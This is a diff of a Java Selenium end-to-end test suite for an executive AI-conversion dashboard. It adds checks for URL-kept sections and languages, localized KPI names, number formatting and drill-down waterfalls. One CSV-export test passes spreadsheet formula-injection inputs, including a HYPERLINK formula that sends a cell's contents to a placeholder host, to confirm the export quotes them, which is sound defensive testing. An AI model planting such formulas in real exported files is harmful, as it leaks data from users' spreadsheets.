@@ -6,11 +6,16 @@ import static org.junit.jupiter.api.Assumptions.assumeTrue;
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
 import java.math.BigDecimal;
+import java.math.RoundingMode;
+import java.text.DecimalFormat;
+import java.text.DecimalFormatSymbols;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.Locale;
+import java.util.regex.Pattern;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.MethodOrderer;
@@ -76,9 +81,17 @@ class DashboardEndToEndTest {
         return JSON.readTree(suite.get("gateway", path));
     }
 
-    /** Opens the dashboard on a period, signing in first when the page asks (the first time in this browser tab). */
+    /** Opens the dashboard on a period's overview in Chinese, signing in first when the page asks. */
     private static void open(String period) {
-        browser.get(suite.url("gateway") + "/dashboard/index.html?period=" + period);
+        open(period, "overview", "zh");
+    }
+
+    /**
+     * Opens the dashboard on a period, a section and a language, as a shared link would, signing in first when the
+     * page asks (the first time in this browser tab).
+     */
+    private static void open(String period, String section, String lang) {
+        browser.get(suite.url("gateway") + "/dashboard/index.html?period=" + period + "&section=" + section + "&lang=" + lang);
         WebDriverWait wait = new WebDriverWait(browser, Duration.ofSeconds(60));
         wait.until(d -> "true".equals(d.findElement(By.tagName("body")).getAttribute("data-loaded")));
         if (browser.findElement(By.id("sign-in")).isDisplayed()) {
@@ -88,7 +101,20 @@ class DashboardEndToEndTest {
             browser.findElement(By.id("sign-in-submit")).click();
         }
         wait.until(d -> "true".equals(d.findElement(By.tagName("body")).getAttribute("data-loaded"))
-                && !d.findElement(By.id("kpi-cloud-share")).getText().isEmpty());
+                && !d.findElement(By.id("kpi-cloud-share")).getAttribute("textContent").isEmpty());
+    }
+
+    /** Shows another section, as a reader clicking its tab. */
+    private static void section(String name) {
+        browser.findElement(By.cssSelector("#sections a[data-goto='" + name + "']")).click();
+        new WebDriverWait(browser, Duration.ofSeconds(10)).until(d -> name.equals(
+                d.findElement(By.tagName("body")).getAttribute("data-section")));
+    }
+
+    private static void awaitLoaded() {
+        new WebDriverWait(browser, Duration.ofSeconds(60)).until(d -> "true".equals(
+                d.findElement(By.tagName("body")).getAttribute("data-loaded"))
+                && !d.findElement(By.id("kpi-cloud-share")).getAttribute("textContent").isEmpty());
     }
 
     private static Object js(String script) {
@@ -122,7 +148,10 @@ class DashboardEndToEndTest {
         assertThat(browser.findElement(By.id("ledger-currencies")).getAttribute("data-currencies"))
                 .isEqualTo(String.join(",", currencies));
 
-        // Each chart has an ECharts instance with data drawn on a canvas.
+        // Each chart has an ECharts instance with data drawn on a canvas; the trend charts are the Revenue section's.
+        section("revenue");
+        assertThat(browser.findElement(By.id("chart-share")).isDisplayed()).isTrue();
+        assertThat(browser.findElement(By.id("kpi-cloud-share")).isDisplayed()).isFalse();
         for (String id : List.of("chart-share", "chart-ai-revenue")) {
             Long points = (Long) js("const c = echarts.getInstanceByDom(document.getElementById('" + id + "'));"
                     + "return c ? c.getOption().series[0].data.filter(x => x !== null).length : -1;");
@@ -189,6 +218,7 @@ class DashboardEndToEndTest {
         assertThat(shownAlerts).extracting(e -> e.getAttribute("data-alert")).containsExactlyElementsOf(apiAlerts);
 
         JsonNode cards = api("/api/v1/executive/business-units?period=2025-Q3");
+        section("units");
         List<WebElement> rows = browser.findElements(By.cssSelector("#scorecards tbody tr"));
         assertThat(rows).hasSize(cards.path("businessUnits").size());
         JsonNode first = cards.path("businessUnits").get(0);
@@ -201,7 +231,7 @@ class DashboardEndToEndTest {
     @Test
     @Order(3)
     void theRetentionHeatMapAndCurvesShowTheApisCohortsAndTheTongyiAppsAiUsersLeavingSooner() throws Exception {
-        open("2025-Q3");
+        open("2025-Q3", "retention", "zh");
         JsonNode view = api("/api/v1/executive/ai-conversion?period=2025-Q3");
         JsonNode tongyi = null;
         for (JsonNode a : view.path("toC").path("apps")) {
@@ -215,8 +245,6 @@ class DashboardEndToEndTest {
         assertThat(view.path("alerts").toString()).contains("ai-users-up-lift-not");
         WebElement row = browser.findElement(By.cssSelector("#retention-apps tr[data-app='tongyi-app'] td[data-field='aiLiftPp']"));
         assertThat(row.getText()).isEqualTo(String.format("%.2f pp", tongyi.path("aiLiftPp").decimalValue()));
-        WebElement unitRow = browser.findElement(By.cssSelector("#scorecards tr[data-business-unit='tongyi-app'] td[data-field='aiLiftPp']"));
-        assertThat(unitRow.getText()).endsWith(" pp").startsWith("-");
 
         new Select(browser.findElement(By.id("retention-app"))).selectByValue("tongyi-app");
         WebDriverWait wait = new WebDriverWait(browser, Duration.ofSeconds(30));
@@ -241,6 +269,9 @@ class DashboardEndToEndTest {
                 .startsWith("app,segment,cohort_start,cohort_size,offset,window_start,users,share,partial\ntongyi-app,all,");
         Files.write(target.resolve("dashboard-retention.png"),
                 browser.findElement(By.id("retention-panel")).getScreenshotAs(OutputType.BYTES));
+        section("units");
+        WebElement unitRow = browser.findElement(By.cssSelector("#scorecards tr[data-business-unit='tongyi-app'] td[data-field='aiLiftPp']"));
+        assertThat(unitRow.getText()).endsWith(" pp").startsWith("-");
     }
 
     @Test
@@ -261,6 +292,10 @@ class DashboardEndToEndTest {
         for (String figure : List.of("share", "toB", "toC", "alerts", "scorecards", "reviews", "retention")) {
             assertThat((String) js("return window.dashboardCsv('" + figure + "');")).as(figure).contains(",");
         }
+        // A KPI's row carries its id and its name in the page's language; the value stays the API's raw number.
+        JsonNode view = api("/api/v1/executive/ai-conversion?period=2024-Q4");
+        assertThat((String) js("return window.dashboardCsv('toC');")).startsWith("figure,kpi,kpi_name,value\nmau,toc-mau,"
+                + "Monthly active users," + view.path("toC").path("funnel").path("mau").decimalValue().stripTrailingZeros().toPlainString() + "\n");
         // A cell a spreadsheet would run as a formula is downloaded as quoted text; numbers stay as they are.
         assertThat((String) js("return ['=HYPERLINK(\"http://x.example/?\"&A1)', '=1+2', '@SUM(A1)', '+1+2', '-1+2',"
                 + " '\\tx', '\\r=1', 'x;=1', -12.5, '-12.50', '+3', null, 'acme']"
@@ -273,7 +308,7 @@ class DashboardEndToEndTest {
     @Test
     @Order(5)
     void theReviewsShowTheApisScoresAndTheTongyiAppsSessionsScoreNothingUnderItsFloor() throws Exception {
-        open("2025-Q3");
+        open("2025-Q3", "reviews", "zh");
         JsonNode review = api("/api/v1/executive/reviews?period=2025-Q3");
         assertThat(review.path("period").asText()).isEqualTo("FY2026-Q2");
         reviewShownAsTheApiAnswers(review);
@@ -334,7 +369,7 @@ class DashboardEndToEndTest {
     @Test
     @Order(8)
     void theSealedQuarterShowsItsSealTheLiveFiguresBesideItAndWhatChangedSinceWithTheCauses() throws Exception {
-        open("2025-Q2");
+        open("2025-Q2", "reviews", "zh");
         JsonNode review = api("/api/v1/executive/reviews?period=2025-Q2");
         assertThat(review.path("period").asText()).isEqualTo("FY2026-Q1");
         JsonNode seal = review.path("sealed");
@@ -387,6 +422,194 @@ class DashboardEndToEndTest {
         Files.writeString(target.resolve("sealed-changes.json"), changes.toPrettyString());
         Files.write(target.resolve("dashboard-sealed.png"), ((TakesScreenshot) browser).getScreenshotAs(OutputType.BYTES));
         browser.findElement(By.id("lang")).click();
+    }
+
+    @Test
+    @Order(9)
+    void everyKpiShowsByItsNameAndEveryNumberAsPeopleReadItInBothLanguages() throws Exception {
+        JsonNode names = api("/api/v1/dashboard/names");
+        JsonNode view = api("/api/v1/executive/ai-conversion?period=2025-Q3");
+        List<String> ids = new ArrayList<>();
+        names.path("kpis").fieldNames().forEachRemaining(ids::add);
+        assertThat(ids).contains("toc-mau", "ai-cash-revenue", "toc-ai-sessions");
+        for (String lang : List.of("zh", "en")) {
+            open("2025-Q3", "overview", lang);
+            assertThat(browser.findElement(By.tagName("html")).getAttribute("lang")).startsWith(lang);
+            // No section shows a KPI's id: ids are in tooltips (title attributes) only.
+            for (String section : List.of("overview", "reviews", "units", "retention", "revenue", "models")) {
+                section(section);
+                String text = (String) js("return document.body.innerText;");
+                for (String id : ids) {
+                    assertThat(Pattern.compile("(?<![\\w-])" + Pattern.quote(id) + "(?![\\w-])").matcher(text).find())
+                            .as("the %s page's %s section shows the id %s", lang, section, id).isFalse();
+                }
+            }
+            // The reviews name each KPI and status in the page's language, the id in the tooltip.
+            section("reviews");
+            List<WebElement> rows = browser.findElements(By.cssSelector("#reviews tr[data-kpi]"));
+            assertThat(rows).isNotEmpty();
+            for (WebElement row : rows) {
+                String id = row.getAttribute("data-kpi");
+                WebElement name = row.findElement(By.cssSelector(".kpi-name"));
+                assertThat(name.getText()).isEqualTo(names.path("kpis").path(id).path(lang).asText());
+                assertThat(name.getAttribute("title")).startsWith(id);
+                assertThat(row.findElement(By.cssSelector(".status")).getText())
+                        .isEqualTo(names.path("statuses").path(row.getAttribute("data-status")).path(lang).asText());
+            }
+            // The vanity alerts in the page's language.
+            section("overview");
+            JsonNode turns = null;
+            for (JsonNode a : view.path("alerts")) {
+                if ((a.path("id").asText() + ":" + a.path("scope").asText()).equals("turns-up-resolution-not:tongyi-app")) {
+                    turns = a;
+                }
+            }
+            assertThat(turns).isNotNull();
+            assertThat(browser.findElement(By.cssSelector("#alerts li[data-alert='turns-up-resolution-not:tongyi-app']")).getText())
+                    .contains(turns.path("text").path(lang).asText())
+                    .contains(names.path("kpis").path("toc-turns").path(lang).asText());
+            // Money in 亿/万 or B/M, shares with one or two decimals.
+            assertThat(browser.findElement(By.id("kpi-ai-revenue")).getText())
+                    .isEqualTo(money(view.path("ai").path("attributedRevenueCny").decimalValue(), lang));
+            assertThat(browser.findElement(By.id("kpi-ai-cash")).getText())
+                    .isEqualTo(money(view.path("ai").path("cashRevenueCny").decimalValue(), lang));
+            assertThat(browser.findElement(By.id("kpi-ai-revenue")).getText()).matches(lang.equals("zh")
+                    ? "-?¥[\\d,]+\\.\\d{2}[亿万]?" : "-?¥[\\d,]+\\.\\d{2}[BM]?");
+            assertThat(browser.findElement(By.id("kpi-cloud-share")).getText())
+                    .isEqualTo(percent(view.path("cloud").path("share").decimalValue()));
+            // People are counted whole: MAU is an average of monthly counts, shown as a whole number.
+            section("retention");
+            BigDecimal mau = view.path("toC").path("funnel").path("mau").decimalValue();
+            String shownMau = browser.findElement(By.cssSelector("#figures-toc [data-figure='mau'] .value")).getText();
+            assertThat(shownMau).doesNotContain(".").isEqualTo(String.format(Locale.US, "%,d",
+                    mau.setScale(0, RoundingMode.HALF_UP).longValueExact()));
+            Files.write(target.resolve("dashboard-names-" + lang + ".png"),
+                    ((TakesScreenshot) browser).getScreenshotAs(OutputType.BYTES));
+        }
+    }
+
+    /** Money as the page writes it, worked out here: ¥ and two decimals, in 亿/万 (Chinese) or B/M (English). */
+    private static String money(BigDecimal amount, String lang) {
+        String[][] scales = lang.equals("zh") ? new String[][] {{"100000000", "亿"}, {"10000", "万"}}
+                : new String[][] {{"1000000000", "B"}, {"1000000", "M"}};
+        BigDecimal a = amount.abs();
+        String sign = amount.signum() < 0 ? "-" : "";
+        for (String[] scale : scales) {
+            BigDecimal size = new BigDecimal(scale[0]);
+            if (a.compareTo(size) >= 0) {
+                return sign + "¥" + grouped(a.divide(size), "#,##0.00") + scale[1];
+            }
+        }
+        return sign + "¥" + grouped(a, "#,##0.00");
+    }
+
+    /** A share as a percentage with one or two decimals. */
+    private static String percent(BigDecimal share) {
+        return grouped(share.movePointRight(2), "#,##0.0#") + "%";
+    }
+
+    private static String grouped(BigDecimal value, String pattern) {
+        DecimalFormat format = new DecimalFormat(pattern, DecimalFormatSymbols.getInstance(Locale.US));
+        format.setRoundingMode(RoundingMode.HALF_UP);
+        return format.format(value);
+    }
+
+    @Test
+    @Order(10)
+    void theAddressKeepsTheSectionPeriodAndLanguageAcrossAReloadAndBackAndForward() throws Exception {
+        open("2025-Q3", "overview", "zh");
+        browser.findElement(By.id("lang")).click();
+        section("units");
+        new Select(browser.findElement(By.id("period"))).selectByValue("2024-Q4");
+        new WebDriverWait(browser, Duration.ofSeconds(60)).until(d -> d.getCurrentUrl().contains("period=2024-Q4"));
+        awaitLoaded();
+        assertThat(browser.getCurrentUrl()).contains("period=2024-Q4").contains("lang=en").contains("section=units");
+
+        // A reload (or the link sent to a colleague) opens the same view.
+        browser.navigate().refresh();
+        awaitLoaded();
+        assertThat(new Select(browser.findElement(By.id("period"))).getFirstSelectedOption().getAttribute("value"))
+                .isEqualTo("2024-Q4");
+        assertThat(browser.findElement(By.tagName("h1")).getText()).isEqualTo("AI conversion dashboard");
+        assertThat(browser.findElement(By.tagName("body")).getAttribute("data-section")).isEqualTo("units");
+        assertThat(browser.findElement(By.id("scorecards")).isDisplayed()).isTrue();
+        assertThat(browser.findElement(By.id("kpi-cloud-share")).isDisplayed()).isFalse();
+        assertThat(browser.findElement(By.cssSelector("#sections a.active")).getText()).isEqualTo("Units");
+
+        // Back: the previous period, same section and language; back again: the overview; forward: the units.
+        browser.navigate().back();
+        new WebDriverWait(browser, Duration.ofSeconds(60)).until(d -> d.getCurrentUrl().contains("period=2025-Q3")
+                && "2025-Q3".equals(new Select(d.findElement(By.id("period"))).getFirstSelectedOption().getAttribute("value")));
+        awaitLoaded();
+        assertThat(new Select(browser.findElement(By.id("period"))).getFirstSelectedOption().getAttribute("value"))
+                .isEqualTo("2025-Q3");
+        assertThat(browser.findElement(By.tagName("body")).getAttribute("data-section")).isEqualTo("units");
+        browser.navigate().back();
+        new WebDriverWait(browser, Duration.ofSeconds(10)).until(d -> "overview".equals(
+                d.findElement(By.tagName("body")).getAttribute("data-section")));
+        assertThat(browser.findElement(By.id("kpi-cloud-share")).isDisplayed()).isTrue();
+        browser.navigate().back();
+        new WebDriverWait(browser, Duration.ofSeconds(10)).until(d -> "AI 转化看板".equals(
+                d.findElement(By.tagName("h1")).getText()));
+        browser.navigate().forward();
+        browser.navigate().forward();
+        new WebDriverWait(browser, Duration.ofSeconds(10)).until(d -> "units".equals(
+                d.findElement(By.tagName("body")).getAttribute("data-section")));
+        assertThat(browser.findElement(By.tagName("h1")).getText()).isEqualTo("AI conversion dashboard");
+    }
+
+    /**
+     * A click on a headline figure opens its drill-down: the drivers of its change as a waterfall, adding up to the
+     * change shown, and its breakdown by unit, whose rows open the unit's level. The drivers and breakdown APIs are
+     * checked when the gateway answers them; before they are deployed the panel must say there is nothing to show,
+     * without an error, and the rest of the test is skipped (reported as such).
+     */
+    @Test
+    @Order(11)
+    void aClickOnAHeadlineFigureOpensItsDriversWhichAddUpToTheChangeShown() throws Exception {
+        open("2025-Q3", "overview", "zh");
+        browser.findElement(By.cssSelector(".card[data-kpi='ai-attributed-revenue']")).click();
+        WebDriverWait wait = new WebDriverWait(browser, Duration.ofSeconds(60));
+        wait.until(d -> "true".equals(d.findElement(By.id("drill")).getAttribute("data-loaded")));
+        WebElement drill = browser.findElement(By.id("drill"));
+        assertThat(drill.isDisplayed()).isTrue();
+        assertThat(drill.getAttribute("data-kpi")).isEqualTo("ai-attributed-revenue");
+        assertThat(browser.findElement(By.id("drill-title")).getText()).isEqualTo("AI 归因收入");
+        assertThat(browser.findElement(By.id("error")).isDisplayed()).isFalse();
+        boolean drivers = browser.findElement(By.id("drill-drivers-box")).isDisplayed();
+        boolean breakdown = browser.findElement(By.id("drill-breakdown-box")).isDisplayed();
+        assertThat(browser.findElement(By.id("drill-none")).isDisplayed()).isEqualTo(!drivers && !breakdown);
+        assumeTrue(drivers, "the drivers API (GET /api/v1/executive/kpis/{kpiId}/drivers) does not answer yet");
+
+        JsonNode api = api("/api/v1/executive/kpis/ai-attributed-revenue/drivers?period=2025-Q3&by=unit&compareTo="
+                + api("/api/v1/executive/ai-conversion?period=2025-Q3").path("previousPeriod").asText());
+        BigDecimal before = new BigDecimal(drill.getAttribute("data-before"));
+        BigDecimal after = new BigDecimal(drill.getAttribute("data-after"));
+        BigDecimal change = new BigDecimal(drill.getAttribute("data-change"));
+        assertThat(change).isEqualByComparingTo(api.path("change").decimalValue());
+        assertThat(after.subtract(before)).isEqualByComparingTo(change);
+        BigDecimal sum = BigDecimal.ZERO;
+        List<WebElement> steps = browser.findElements(By.cssSelector("#drill-drivers tbody tr[data-member]"));
+        assertThat(steps).hasSizeGreaterThanOrEqualTo(api.path("members").size());
+        for (WebElement step : steps) {
+            sum = sum.add(new BigDecimal(step.getAttribute("data-contribution")));
+        }
+        assertThat(sum).as("the drivers shown add up to the change shown").isEqualByComparingTo(change);
+        // The waterfall draws before, each step and after.
+        List<?> drawn = (List<?>) js("return JSON.parse(document.getElementById('chart-drivers').dataset.steps);");
+        assertThat(drawn).hasSize(steps.size() + 2);
+        assertThat(browser.findElement(By.id("chart-drivers")).findElements(By.tagName("canvas"))).isNotEmpty();
+        Files.write(target.resolve("dashboard-drill.png"), ((TakesScreenshot) browser).getScreenshotAs(OutputType.BYTES));
+
+        // The next level: a unit of the breakdown.
+        assumeTrue(breakdown, "the breakdown API (GET /api/v1/executive/breakdown) does not answer yet");
+        WebElement first = browser.findElement(By.cssSelector("#drill-breakdown tbody tr[data-member]"));
+        String unit = first.getAttribute("data-member");
+        first.click();
+        wait.until(d -> unit.equals(d.findElement(By.id("drill")).getAttribute("data-scope"))
+                && "true".equals(d.findElement(By.id("drill")).getAttribute("data-loaded")));
+        assertThat(browser.findElement(By.id("drill-path")).getText()).contains(unit);
+        assertThat(browser.findElement(By.id("error")).isDisplayed()).isFalse();
     }
 
     /** Every scope's block shows the API's score, and every KPI row its status, whether it counted and its actual. */
